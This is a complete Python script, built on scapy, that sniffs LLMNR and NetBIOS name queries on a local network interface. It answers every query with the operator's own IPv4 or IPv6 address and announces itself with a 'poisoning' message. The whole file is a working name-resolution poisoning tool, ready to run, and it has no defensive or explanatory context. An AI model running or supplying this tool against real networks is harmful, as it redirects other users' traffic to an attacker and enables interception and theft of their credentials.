"""Answers every LLMNR and NetBIOS question on the link with its own address. Run as a program: interface, own addresses."""

from __future__ import annotations

import sys

from scapy.layers.dns import DNSRR
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether
from scapy.layers.llmnr import LLMNRQuery, LLMNRResponse
from scapy.layers.netbios import NBNS_ADD_ENTRY, NBNSHeader, NBNSQueryRequest, NBNSQueryResponse
from scapy.packet import Packet
from scapy.sendrecv import sendp, sniff


def poison(interface: str, me: str, me6: str) -> None:
    """Serve until killed; whoever asks over IPv6 is answered there."""

    def answer(asked: Packet) -> None:
        kind, mine = (IPv6, me6) if IPv6 in asked else (IP, me)
        if asked[kind].src == mine:
            return
        back = Ether(dst=asked[Ether].src) / kind(src=mine, dst=asked[kind].src)
        if asked.haslayer(LLMNRQuery) and asked[LLMNRQuery].qd:
            question = asked[LLMNRQuery].qd[0] if isinstance(asked[LLMNRQuery].qd, list) else asked[LLMNRQuery].qd
            record = DNSRR(rrname=question.qname, ttl=30, rdata=me)
            body = LLMNRResponse(id=asked[LLMNRQuery].id, qd=question, an=record)
            sendp(back / UDP(sport=5355, dport=asked[UDP].sport) / body, iface=interface, verbose=False)
        elif asked.haslayer(NBNSQueryRequest):
            question = asked[NBNSQueryRequest]
            body = NBNSHeader(NAME_TRN_ID=asked[NBNSHeader].NAME_TRN_ID, RESPONSE=1, NM_FLAGS=0x50, ANCOUNT=1)
            body /= NBNSQueryResponse(
                RR_NAME=question.QUESTION_NAME, SUFFIX=question.SUFFIX, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS=me)]
            )
            sendp(back / UDP(sport=137, dport=asked[UDP].sport) / body, iface=interface, verbose=False)

    def ready() -> None:
        print("poisoning", flush=True)

    sniff(iface=interface, filter="udp port 5355 or udp port 137", prn=answer, store=False, started_callback=ready)


if __name__ == "__main__":
    poison(*sys.argv[1:])
